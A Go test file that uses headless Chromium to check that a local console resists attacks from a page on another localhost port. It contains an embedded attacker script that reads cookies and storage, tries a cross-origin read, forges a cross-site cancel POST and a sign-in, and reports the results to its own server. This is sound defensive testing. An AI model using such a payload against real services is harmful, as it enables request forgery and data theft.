package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"
)

// attackerPage is what another local user serves on another port of
// 127.0.0.1: it reads what the browser lets it (its own cookies and
// storage), tries to read the console's run list cross-origin, posts a
// cancel for the target run's lane 0 as a cross-site form would
// (credentials included, no preflight), and reports all of it to its own
// server.
const attackerPage = `<!doctype html><html><head><meta charset="utf-8"><title>not the console</title>
<script src="/evil.js" defer></script></head><body data-console="%s">attacker</body></html>`

const attackerJS = `(async () => {
  const base = document.body.dataset.console;
  const out = { cookie: document.cookie, storage: sessionStorage.length + localStorage.length };
  try {
    const r = await fetch(base + "api/v1/runs", { credentials: "include" });
    out.read = "status " + r.status + ": " + (await r.text());
  } catch (e) { out.read = "refused: " + e.message; }
  try {
    const r = await fetch(base + "runs/target/lanes/0/answer", { method: "POST", mode: "no-cors", credentials: "include",
      headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "kind=cancel&reason=from+another+port" });
    out.post = "sent: " + r.type;
  } catch (e) { out.post = "refused: " + e.message; }
  try {
    const r = await fetch(base + "api/v1/signin", { method: "POST", credentials: "include",
      headers: { "Content-Type": "application/json" }, body: "{\"code\":\"guess\"}" });
    out.signin = "status " + r.status + ": " + (await r.text());
  } catch (e) { out.signin = "refused: " + e.message; }
  await fetch("/report", { method: "POST", body: JSON.stringify(out) });
})();`

// attackerReport is what the attacker's page saw.
type attackerReport struct {
	Cookie  string `json:"cookie"`
	Storage int    `json:"storage"`
	Read    string `json:"read"`
	Post    string `json:"post"`
	SignIn  string `json:"signin"`
}

// attacker is the other port's server: it serves the page and records
// every Cookie header the browser sent it and the page's report.
type attacker struct {
	srv     *httptest.Server
	mu      sync.Mutex
	cookies []string
	report  chan attackerReport
}

func newAttacker(t *testing.T, console string) *attacker {
	t.Helper()
	a := &attacker{report: make(chan attackerReport, 1)}
	a.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		a.cookies = append(a.cookies, r.Header.Values("Cookie")...)
		a.mu.Unlock()
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, attackerPage, console)
		case "/evil.js":
			w.Header().Set("Content-Type", "text/javascript")
			io.WriteString(w, attackerJS)
		case "/report":
			var rep attackerReport
			if err := json.NewDecoder(r.Body).Decode(&rep); err == nil {
				select {
				case a.report <- rep:
				default:
				}
			}
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(a.srv.Close)
	return a
}

// TestConsoleBrowserOtherPort plays issue 25's class 1 in headless
// Chromium: the user signs in to a real serve's console from the address
// serve printed; then a page served on another 127.0.0.1 port (another
// local user's) is opened in the same browser. That page's server
// receives no cookie of the console's, the page finds no token in its own
// storage, its cross-origin read of the run list fails, its cross-site
// cancel of a waiting lane changes nothing, and it cannot sign in. The
// sign-in code left the address bar, and the same code opened again in a
// new tab is refused with the way to a new one.
func TestConsoleBrowserOtherPort(t *testing.T) {
	s := newEngineSandbox(t, nil, singleLaneSheet)
	serve := s.start(t, "serve", "--data-dir", s.data, "--listen", "127.0.0.1:0", "--http", "127.0.0.1:0")
	base, signIn := signInAddress(t, serve)
	// No worker serves grok: the run's lane waits, and a cancel would
	// take it.
	r := s.run(t, 60*time.Second, s.runArgs("hillclimb", "--run-id", "target", "--detach")...)
	require.Equal(t, 0, r.code, r.stderr)
	b, err := os.ReadFile(filepath.Join(s.data, consoleTokenName))
	require.NoError(t, err)
	c := consoleClient{t: t, base: base}
	laneState := func() string {
		resp, body := c.do(http.MethodGet, "api/v1/runs/target", strings.TrimSpace(string(b)), "")
		require.Equal(t, http.StatusOK, resp.StatusCode, body)
		var st struct {
			Lanes []struct{ State string }
		}
		require.NoError(t, json.Unmarshal([]byte(body), &st))
		require.Len(t, st.Lanes, 1)
		return st.Lanes[0].State
	}
	require.NotEqual(t, "cancelled", laneState())

	ctx := browser(t, 3*time.Minute)
	require.NoError(t, chromedp.Do(ctx, chromedp.Navigate(signIn)))
	poll(t, ctx, "the signed-in list shows the run", `!!document.querySelector('#runs tr[data-run="target"]')`)
	poll(t, ctx, "the live stream is connected", `document.getElementById("live").classList.contains("on")`)
	type place struct {
		Hash    string `json:"hash"`
		Cookie  string `json:"cookie"`
		Session bool   `json:"session"`
	}
	where, err := chromedp.Run(ctx, chromedp.Evaluate[place](`({hash: location.hash, cookie: document.cookie, session: !!sessionStorage.getItem("switchyard.token")})`))
	require.NoError(t, err)
	require.Empty(t, where.Hash, "the code left the address bar")
	require.Empty(t, where.Cookie, "the console set no cookie")
	require.True(t, where.Session, "the token is in the tab's session storage")

	att := newAttacker(t, base)
	actx, cancel := chromedp.NewContext(ctx) // a new tab of the same browser
	defer cancel()
	require.NoError(t, chromedp.Do(actx, chromedp.Navigate(att.srv.URL+"/")))
	var rep attackerReport
	select {
	case rep = <-att.report:
	case <-time.After(60 * time.Second):
		t.Fatal("the attacker's page did not report")
	}
	att.mu.Lock()
	require.Empty(t, att.cookies, "the browser sent the other port a cookie")
	att.mu.Unlock()
	require.Empty(t, rep.Cookie, "the other port's page sees a cookie")
	require.Zero(t, rep.Storage, "the other port's page sees stored data")
	require.True(t, strings.HasPrefix(rep.Read, "refused: "), "the cross-origin read got through: %s", rep.Read)
	require.True(t, strings.HasPrefix(rep.SignIn, "refused: "), "the cross-origin sign-in got through: %s", rep.SignIn)
	require.Equal(t, "sent: opaque", rep.Post, "the cross-site post went out (and must change nothing)")
	require.NotEqual(t, "cancelled", laneState(), "the cross-site cancel took the lane")
	h := s.run(t, 30*time.Second, "history", "--data-dir", s.data, "--run", "target", "--type", "cancel", "--json")
	require.NotContains(t, h.stdout, "from another port")

	// The printed code was spent by the first tab: a new tab opening the
	// same address is refused, and told how to get another.
	tctx, tcancel := chromedp.NewContext(ctx)
	defer tcancel()
	require.NoError(t, chromedp.Do(tctx, chromedp.Navigate(signIn)))
	poll(t, tctx, "the reused code is refused with the way to a new one",
		`(document.getElementById("error")?.innerText || "").includes("sign-in code was already used") && document.getElementById("error").innerText.includes("switchyard console-url")`)
	stored, err := chromedp.Run(tctx, chromedp.Evaluate[bool](`!!sessionStorage.getItem("switchyard.token")`))
	require.NoError(t, err)
	require.False(t, stored, "a refused code stores no token")
}
